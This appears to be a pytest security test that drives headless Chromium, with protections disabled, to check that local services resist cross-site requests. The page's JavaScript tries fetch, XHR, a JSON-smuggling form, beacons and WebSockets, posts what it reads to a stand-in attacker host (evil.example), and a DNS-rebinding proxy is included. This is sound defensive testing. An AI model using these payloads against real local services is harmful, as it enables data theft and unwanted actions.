"""A page in a real Chromium tries everything that listens here: it reads and orders nothing.

Beside ours it tries a server without any defence: what the page can do is seen there, so that no
silence of the browser is taken for a defence of ours.
"""

import json
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from waiting import eventually

from .listeners import Listeners, Order

CHROMIUM = next((p for n in ("chromium", "chromium-browser") if (p := shutil.which(n))), None)

pytestmark = [
    pytest.mark.soak,
    pytest.mark.timeout(300),
    pytest.mark.skipif(
        CHROMIUM is None, reason="no chromium here (Debian: apt-get install chromium)"
    ),
]

#: Each way in which a page can ask a server; what it could read it tells its own.
ATTACK = """
async function tell(what, text) {
  const body = JSON.stringify({what, text: String(text).slice(0, 2000)});
  await fetch(HOME + '/told', {method: 'POST', mode: 'no-cors', body});
}
function within(promise) {
  return Promise.race([promise, new Promise(done => setTimeout(done, 3000))]);
}
const body = order => order.method === 'POST' ? order.body : undefined;
const WAYS = {
  fetch: async (url, order) =>
    (await fetch(url, {method: order.method, body: body(order), credentials: 'include'})).text(),
  blind: async (url, order) =>
    (await fetch(url, {method: order.method, body: body(order), mode: 'no-cors',
                       credentials: 'include'})).text(),
  xhr: (url, order) => new Promise((done, failed) => {
    const asked = new XMLHttpRequest();
    asked.open(order.method, url);
    asked.setRequestHeader('Content-Type', 'text/plain');
    asked.onload = () => done(asked.responseText);
    asked.onerror = failed;
    asked.send(body(order));
  }),
  form: (url, order) => new Promise(done => {
    const frame = document.createElement('iframe'), form = document.createElement('form');
    frame.name = 'f' + Math.random(); form.target = frame.name; form.action = url;
    form.method = order.method; form.enctype = 'text/plain';
    const field = document.createElement('input');
    // The name and value of a field are a JSON text with an equals sign in it.
    const text = order.body || '{}';
    field.name = text.slice(0, -1) + (text.startsWith('{') && text.length > 2 ? ',"x":"' : '');
    field.value = text.startsWith('{') ? '"}' : text.slice(-1);
    form.append(field); document.body.append(frame, form);
    frame.onload = () => { try { done(frame.contentDocument.body.innerText) } catch { done('') } };
    form.submit();
  }),
  beacon: async (url, order) => { navigator.sendBeacon(url, order.body || ''); return ''; },
  image: (url) => new Promise(done => {
    const image = new Image(); image.onload = () => done('loaded'); image.onerror = () => done('');
    image.src = url;
  }),
  script: (url) => new Promise(done => {
    const script = document.createElement('script');
    script.onload = () => done(''); script.onerror = () => done(''); script.src = url;
    document.body.append(script);
  }),
  events: (url) => new Promise(done => {
    const stream = new EventSource(url, {withCredentials: true});
    stream.onmessage = event => done(event.data);
    stream.onerror = () => { stream.close(); done(''); };
  }),
  socket: (url) => new Promise(done => {
    const opened = new WebSocket(url.replace('http', 'ws'));
    opened.onopen = () => done('opened'); opened.onerror = () => done('');
  }),
};
async function attack(targets) {
  for (const target of targets) {
    const all = [];
    for (const order of target.orders)
      for (const [name, way] of Object.entries(WAYS))
        all.push((async () => {
          let text = '';
          try { text = await within(way(target.url + order.path, order)); } catch {}
          if (text) await tell(target.name + ' ' + name + ' ' + order.path, text);
        })());
    await Promise.all(all);
  }
  await tell('done', 'done');
}
"""


class Web:
    """The attacker's own server, or one of a careless person that answers everybody."""

    def __init__(self, page: str = "") -> None:
        self.page = page
        self.told: list[dict[str, str]] = []
        self.asked: list[tuple[str, str, dict[str, str]]] = []
        web = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, format: str, *args: Any) -> None: ...

            def do_GET(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode(errors="replace")
                web.asked.append((self.command, body, dict(self.headers)))
                if self.path == "/told":
                    web.told.append(json.loads(body))
                page = f"<html><body>{web.page or 'a secret'}</body></html>".encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                with suppress(OSError):
                    self.wfile.write(page)

            do_POST = do_GET

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def read(self, way: str = "") -> list[str]:
        """What the page could read by a way."""
        return [one["what"] for one in self.told if way in one["what"] and one["what"] != "done"]

    @property
    def is_done(self) -> bool:
        return {"what": "done", "text": "done"} in self.told

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def attacker() -> Iterator[Web]:
    with closing(Web()) as found:
        yield found


@pytest.fixture
def careless() -> Iterator[Web]:
    with closing(Web()) as found:
        yield found


@contextmanager
def browser(folder: Path, url: str, names: str) -> Iterator[None]:
    """Have Chromium show a page, in which these names mean what they are mapped to."""
    assert CHROMIUM is not None
    # What the browser itself would keep from the page is switched off where it can be.
    switches = (
        *("--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions"),
        "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
        *(f"--user-data-dir={folder}", f"--host-resolver-rules={names}", "--no-proxy-server"),
    )
    process = subprocess.Popen(
        [CHROMIUM, *switches, "--remote-debugging-port=0", url],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        yield
    finally:
        process.terminate()
        process.wait(30)


def page(home: str, targets: list[dict[str, Any]]) -> str:
    return f"<script>const HOME = {json.dumps(home)};{ATTACK}attack({json.dumps(targets)})</script>"


def targets_of(listeners: Listeners, careless: Web) -> list[dict[str, Any]]:
    secretly = Order("GET", "/secret"), Order("POST", "/order", '{"a": 1}')
    found = [("careless", f"127.0.0.1:{careless.port}", secretly)]
    found += [(n, a, listeners.orders(n)) for n, a in listeners.addresses().items()]
    return [
        {"name": name, "url": f"http://{address}", "orders": [vars(order) for order in orders]}
        for name, address, orders in found
    ]


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1"], ids=["a site", "another port"])
def test_a_page_that_tries_every_way_does_no_harm(
    listeners: Listeners, attacker: Web, careless: Web, tmp_path: Path, host: str
) -> None:
    home = f"http://{host}:{attacker.port}"
    attacker.page = page(home, targets_of(listeners, careless))
    with browser(tmp_path, home, "MAP evil.example 127.0.0.1"):
        eventually(lambda: attacker.is_done, seconds=200, what=lambda: str(attacker.told))
    posted = [body for command, body, _ in careless.asked if command == "POST"]
    assert len(posted) >= 4, "the page had no way to order anything of anybody"
    assert [what for what in attacker.read() if not what.startswith("careless")] == []
    assert listeners.harm() == []


class Rebound:
    """A name that means the attacker's server at first, and then this machine.

    It listens at the port of the one whom it attacks, on another loopback address: the browser
    takes both for the same site.
    """

    def __init__(self, port: int, page: str) -> None:
        self._page = page.encode()
        self._port = port
        self._served = False
        self._listening = socket.create_server(("127.0.0.2", port))
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._listening.accept()
                threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        with connection, suppress(OSError):
            request = connection.recv(65536)
            if request.startswith(b"GET / "):
                head = "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"
                head += f"Content-Length: {len(self._page)}\r\nConnection: close\r\n\r\n"
                connection.sendall(head.encode() + self._page)
                return
            with socket.create_connection(("127.0.0.1", self._port)) as there:
                there.sendall(request)
                back = threading.Thread(target=_pass_on, args=(connection, there), daemon=True)
                back.start()
                _pass_on(there, connection)

    def close(self) -> None:
        self._listening.shutdown(socket.SHUT_RDWR)
        self._listening.close()


def _pass_on(source: socket.socket, to: socket.socket) -> None:
    with suppress(OSError):
        while data := source.recv(65536):
            to.sendall(data)
        to.shutdown(socket.SHUT_WR)


@pytest.mark.parametrize("name", ["master", "agent", "API", "open API", "local DC/OS", "careless"])
def test_a_site_whose_name_means_this_machine_reads_and_orders_nothing(
    listeners: Listeners, attacker: Web, careless: Web, tmp_path: Path, name: str
) -> None:
    target = next(one for one in targets_of(listeners, careless) if one["name"] == name)
    port = int(target["url"].rpartition(":")[2])
    home = f"http://home.example:{attacker.port}"
    # The page's own site: for the browser, the one that is attacked is where the page came from.
    attack = page(home, [{**target, "url": ""}])
    names = "MAP evil.example 127.0.0.2, MAP home.example 127.0.0.1"
    with (
        closing(Rebound(port, attack)),
        browser(tmp_path, f"http://evil.example:{port}/", names),
    ):
        eventually(lambda: attacker.is_done, seconds=100, what=lambda: str(attacker.told))
    read = [one for one in attacker.told if one["what"] != "done"]
    if name == "careless":
        assert any("a secret" in one["text"] for one in read), "the name did not lead anywhere"
        return
    refusals = ("403", "401", "needs its token", "another site")
    assert [one for one in read if not any(word in one["text"] for word in refusals)] == []
    assert listeners.harm() == []
